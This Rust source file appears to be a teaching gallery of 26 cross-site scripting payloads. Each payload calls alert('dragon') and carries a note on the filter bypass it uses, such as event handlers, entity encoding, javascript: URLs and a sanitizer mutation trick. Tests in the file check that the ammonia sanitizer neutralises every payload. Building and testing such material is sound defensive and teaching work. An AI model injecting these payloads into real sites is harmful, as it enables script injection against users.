//! The XSS payload gallery: classic vectors a learner can pick, each with a one-line note and
//! how it fires. An end-to-end test (tests/e2e/gallery.spec.ts) proves in Chromium that every
//! one runs when placed raw in a page, and none runs once escaped or sanitized by ammonia.

use serde::Serialize;

/// How a payload gets to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Trigger {
    /// On its own, as the page loads.
    OnLoad,
    /// When the victim clicks the element that matches this CSS selector.
    Click(&'static str),
}

/// One vector.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Payload {
    pub html: &'static str,
    pub note: &'static str,
    pub trigger: Trigger,
}

const fn load(html: &'static str, note: &'static str) -> Payload {
    Payload { html, note, trigger: Trigger::OnLoad }
}

const fn click(html: &'static str, note: &'static str, selector: &'static str) -> Payload {
    Payload { html, note, trigger: Trigger::Click(selector) }
}

/// Every payload calls `alert('dragon')`, which the preview reports.
pub const PAYLOADS: &[Payload] = &[
    load("<script>alert('dragon')</script>", "The classic: a script element."),
    load("</p><script>alert('dragon')</script>", "Closes the surrounding paragraph first."),
    load("<img src=x onerror=alert('dragon')>", "No script tag: an event handler runs when the image fails to load."),
    load("<img src=x oNeRrOr=alert('dragon')>", "Attribute names are case-insensitive, so a lowercase-only filter misses it."),
    load("<img src=x onerror=alert&#40;'dragon'&#41;>", "Entities in attribute values are decoded before the handler runs."),
    load("<img src=x onerror=\"&#97;lert('dragon')\">", "Even the function name can be written as an entity."),
    load("\"><img src=x onerror=alert('dragon')>", "Built to break out of a quoted attribute, and works in text too."),
    load("'><svg onload=alert('dragon')>", "The single-quote version, with an SVG load event."),
    load("<svg onload=alert('dragon')>", "SVG elements have load events too."),
    load("<svg><script>alert('dragon')</script></svg>", "Script inside SVG is still script."),
    load("<svg><animate onbegin=alert('dragon') attributeName=x dur=1s>", "An SVG animation fires when it begins."),
    load("<video src=x onerror=alert('dragon')>", "Media elements report errors like images do."),
    load("<audio src=x onerror=alert('dragon')>", "The same for audio."),
    load("<link rel=stylesheet href=x onerror=alert('dragon')>", "A stylesheet that fails to load."),
    load("<style onload=alert('dragon')></style>", "A style element fires load once it is parsed."),
    load(
        "<style>@keyframes dragon{}</style><div style=\"animation-name:dragon\" onanimationstart=alert('dragon')></div>",
        "CSS animations fire events too.",
    ),
    load("<details open ontoggle=alert('dragon')>", "An open details element fires toggle by itself."),
    load(
        "<noscript><p title=\"</noscript><img src=x onerror=alert('dragon')>\"></noscript>",
        "Mutation trick: a sanitizer that parses without scripting sees one harmless attribute; the browser does not.",
    ),
    load("<body onload=alert('dragon')>", "A second body tag adds its attributes to the real body."),
    click(
        "<a href=\"javascript:alert('dragon')\">claim your prize</a>",
        "A link that runs script when clicked; escaping the quotes does not help.",
        "a",
    ),
    click("<a href=\"JaVaScRiPt:alert('dragon')\">claim your prize</a>", "URL schemes are case-insensitive.", "a"),
    click("<a href=\"&#106;avascript:alert('dragon')\">claim your prize</a>", "Entity-encoded: decoded before the URL is read.", "a"),
    click(
        "<a href=\" javascript:alert('dragon')\">claim your prize</a>",
        "Leading spaces and control characters are stripped from URLs.",
        "a",
    ),
    click(
        "<a href=\"java&#x09;script:alert('dragon')\">claim your prize</a>",
        "Tabs inside a URL are removed before its scheme is read.",
        "a",
    ),
    click("<svg><a href=\"javascript:alert('dragon')\"><text x=10 y=20>claim your prize</text></a></svg>", "SVG has links too.", "a"),
    click("<input value=\"click me\" onfocus=alert('dragon')>", "Focus handlers run when the victim clicks into the field.", "input"),
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::xss::sanitize::{clean, Policy, Sanitized};

    #[test]
    fn the_gallery_has_at_least_25_vectors_all_calling_alert() {
        assert!(PAYLOADS.len() >= 25);
        for payload in PAYLOADS {
            assert!(payload.html.contains("dragon"), "{}", payload.html);
            assert!(!payload.note.is_empty());
        }
    }

    /// The browser check is the end-to-end test; this one proves ammonia's output has no
    /// handler, script or javascript: URL left in it, natively.
    #[test]
    fn ammonia_leaves_nothing_executable() {
        for payload in PAYLOADS {
            let Sanitized::Clean { html } = clean(payload.html, &Policy::default()) else { panic!() };
            let lower = html.to_ascii_lowercase();
            for bad in ["<script", " on", "javascript:", "<svg", "<iframe", "<style"] {
                assert!(!lower.contains(bad), "{} → {html}", payload.html);
            }
        }
    }
}
